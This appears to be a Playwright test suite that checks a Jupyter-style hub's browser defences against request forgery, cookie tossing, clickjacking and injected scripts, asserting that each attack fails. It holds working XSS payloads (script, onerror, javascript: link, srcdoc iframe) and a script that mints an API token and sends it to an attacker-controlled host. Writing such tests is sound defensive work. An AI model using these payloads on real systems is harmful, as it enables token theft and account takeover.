"""What pages of others, and scripts that get into ours, make a user's real browser do: nothing."""

from __future__ import annotations

import json
from collections.abc import Callable
from html import escape

import pytest
from playwright.sync_api import Frame, expect

from tests.attack.attacker import Insider
from tests.attack.elsewhere import SCRIPT, Elsewhere
from tests.attack.forgery import (
    LOG_OUT,
    READ,
    START,
    START_BY_FORM,
    STOP,
    TOKEN,
    Forgery,
    succeeds,
    tokens,
)
from tests.attack.window import Window
from tests.e2e.person import wait_for_program
from tests.integration.verbs import wait_until
from tests.signin.researcher import Researcher

Enter = Callable[..., Researcher]
STOP_BUTTON = "Stop My Server"

# -- Requests of another page ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", ["same_site", "cross_site"])
def test_another_page_forges_no_request(enter: Enter, elsewhere: Elsewhere, alice: Insider, place: str) -> None:
    victim = enter()
    for forgery in (STOP, READ, TOKEN, START, START_BY_FORM):
        assert not succeeds(victim, elsewhere, getattr(elsewhere, place), forgery, alice), forgery


def test_another_site_signs_nobody_out(enter: Enter, elsewhere: Elsewhere, alice: Insider) -> None:
    victim = enter()
    victim.visit(f"{victim.path}/lab")
    assert not succeeds(victim, elsewhere, elsewhere.cross_site, LOG_OUT, alice)


def toss(victim: Researcher, elsewhere: Elsewhere, value: str) -> None:
    """Let a page of the hub's host plant a token against forgery in the victim's browser, wherever it could be read."""
    elsewhere.page = f"""<script>
        for (const path of ["/", "/hub/", "/hub/spawn", "/hub/api/"]) document.cookie = "_xsrf={value}; path=" + path
    </script>"""
    victim.page.goto(elsewhere.same_site)
    planted = [item["path"] for item in victim.page.context.cookies() if item.get("value") == value]
    assert len(planted) == 4, planted


def with_known_token(value: str) -> Forgery:
    """Return a request for a server with a token that the attacker knows."""
    return Forgery("fetch", "POST", f"{START.path}?_xsrf={value}")


def known_token(of: Insider) -> str:
    """Return a token against forgery that the hub made, for somebody else."""
    token = of.http.cookies.get("_xsrf", path="/hub/")
    assert token
    return token


def test_a_planted_token_of_somebody_else_forges_no_request(
    enter: Enter, elsewhere: Elsewhere, alice: Insider, bob: Insider
) -> None:
    victim, token = enter(), known_token(bob)
    toss(victim, elsewhere, token)
    assert not succeeds(victim, elsewhere, elsewhere.same_site, with_known_token(token), alice)


# -- The hub in a frame ------------------------------------------------------------------------------------------------

FRAME = """<iframe src="{url}" style="position: fixed; inset: 0; width: 100%; height: 100%; border: 0; opacity: 0.01">
    </iframe><h1>Click anywhere to get your prize</h1>"""


def frame(victim: Researcher, elsewhere: Elsewhere, place: str) -> Frame:
    """Let a page of the attacker's lay the hub's over its own, where nobody sees it; return that frame."""
    elsewhere.page = FRAME.format(url=f"{victim.hub.url}/hub/home")
    victim.page.goto(place)
    return victim.page.frames[1]


@pytest.mark.parametrize("place", ["same_site", "cross_site"])
def test_the_hub_is_in_nobodys_frame(enter: Enter, window: Window, elsewhere: Elsewhere, place: str) -> None:
    victim = enter()
    shown = frame(victim, elsewhere, getattr(elsewhere, place))
    assert "frame-ancestors" in " ".join(window.complaints)
    # Chromium's own page, whose address a frame of another process may not have yet.
    assert shown.url.partition(":")[0] in {"", "chrome-error"}, shown.url
    expect(shown.locator("form, button, a")).to_have_count(0)


# -- Scripts in the hub's pages ----------------------------------------------------------------------------------------

STEAL = """fetch(`/hub/api{user}/tokens`, {{method: "POST", headers: {{"X-XSRFToken": window.jhdata.xsrf_token}}}})
    .then((answer) => answer.json()).then((made) => fetch("{place}/?token=" + made.token, {{mode: "no-cors"}}))"""
"""Makes a token of whoever sees the page, and tells the attacker."""
INJECTED = {
    "script": """<script>{code}</script>""",
    "handler": """<img src="data:," onerror='{code}'>""",
    "link": """<a id="injected" href='javascript:{code}'>A prize</a>""",
    "elsewhere": f"""<script src="{{place}}{SCRIPT}"></script>""",
    "frame": """<iframe srcdoc='<script>with (parent) {{ {code} }}</script>'></iframe>""",
}
INSERT = """(text) => {
    const part = document.createRange().createContextualFragment(text);
    document.body.append(part);
    document.getElementById("injected")?.click();
}"""
"""As if a template showed a value that somebody else chose, and forgot to escape it."""


def inject(victim: Researcher, elsewhere: Elsewhere, way: str, of: Insider) -> None:
    """Put a script that steals a token into a page of the hub that the victim looks at."""
    elsewhere.script = STEAL.format(user=of.api_path, place=elsewhere.same_site)
    victim.visit("/hub/home")
    wait_for_program(victim.page)
    victim.page.evaluate(INSERT, INJECTED[way].format(code=elsewhere.script, place=elsewhere.same_site))


@pytest.mark.parametrize("way", INJECTED)
def test_a_script_in_the_hubs_page_steals_no_token(
    enter: Enter, window: Window, elsewhere: Elsewhere, alice: Insider, way: str
) -> None:
    victim = enter()
    before = tokens(alice)
    inject(victim, elsewhere, way, alice)

    def refused() -> bool:
        victim.page.evaluate("1")  # for Playwright to hear what the browser has to say
        return any("Content Security Policy" in text for text in window.complaints)

    wait_until("the browser says that it refused", refused)
    assert tokens(alice) == before
    assert elsewhere.told("token") == []


# -- What somebody was sent, in their own home -------------------------------------------------------------------------

AS_THE_USER = """(async () => {{
    const tell = (name, value) => fetch("{place}/?" + name + "=" + value, {{mode: "no-cors"}});
    try {{ document.cookie = "_xsrf=tossed; path=/hub/spawn"; }}
    catch (error) {{ await tell("refused", error.name); }}
    try {{
        const home = await (await fetch("{url}/hub/home", {{credentials: "include"}})).text();
        window.jhdata = {{xsrf_token: home.match(/xsrf_token: "([^"]+)"/)[1]}};
        await {steal};
    }} finally {{ await tell("done", 1); }}
}})()"""
"""Does as the hub's own page does, from a page of the same origin.

What it plants is not for the paths that it asks itself: without the hub's own cookie there the token is a new one each
second.
"""


def as_the_user(elsewhere: Elsewhere, of: Insider) -> str:
    """Return a script that steals a token."""
    steal = STEAL.format(user=of.api_path, place=elsewhere.same_site)
    return AS_THE_USER.format(place=elsewhere.same_site, url=of.url, steal=steal)


def open_file(victim: Researcher, elsewhere: Elsewhere, of: Insider) -> None:
    """Let the victim open a page with that script, which lies among their files."""
    page = f"<!doctype html><title>A prize</title><script>{as_the_user(elsewhere, of)}</script>"
    assert of.write("sent.html", page).status_code in {200, 201}
    victim.visit(f"{of.path}/files/sent.html")
    wait_until("it has done what it can", lambda: elsewhere.told("done"))


def test_a_page_among_the_files_is_no_page_of_the_hub(enter: Enter, elsewhere: Elsewhere, alice: Insider) -> None:
    victim = enter()
    before = tokens(alice)
    open_file(victim, elsewhere, alice)
    assert elsewhere.told("refused") == ["SecurityError"]
    assert "tossed" not in [item.get("value") for item in victim.page.context.cookies()]
    assert elsewhere.told("token") == []
    assert tokens(alice) == before


def send_notebook(elsewhere: Elsewhere, of: Insider) -> None:
    """Put a notebook whose output has that script among somebody's files."""
    output = f'<p>A prize is in this notebook<img src="data:," onerror="{escape(as_the_user(elsewhere, of))}"></p>'
    shown = {"output_type": "display_data", "data": {"text/html": output}, "metadata": {}}
    cell = {"cell_type": "code", "source": "", "outputs": [shown], "execution_count": 1, "metadata": {}, "id": "sent"}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    assert of.write("sent.ipynb", json.dumps(book)).status_code in {200, 201}


def open_notebook(victim: Researcher) -> None:
    """Let the victim open it, and wait until its output is shown."""
    victim.visit(f"{victim.path}/lab/tree/sent.ipynb")
    expect(victim.page.get_by_text("A prize is in this notebook")).to_be_visible()


def test_a_notebook_that_somebody_was_sent_runs_nothing(enter: Enter, elsewhere: Elsewhere, alice: Insider) -> None:
    victim = enter()
    before = tokens(alice)
    send_notebook(elsewhere, alice)
    open_notebook(victim)
    expect(victim.page.locator("[onerror]")).to_have_count(0)
    assert elsewhere.asked == []
    assert tokens(alice) == before
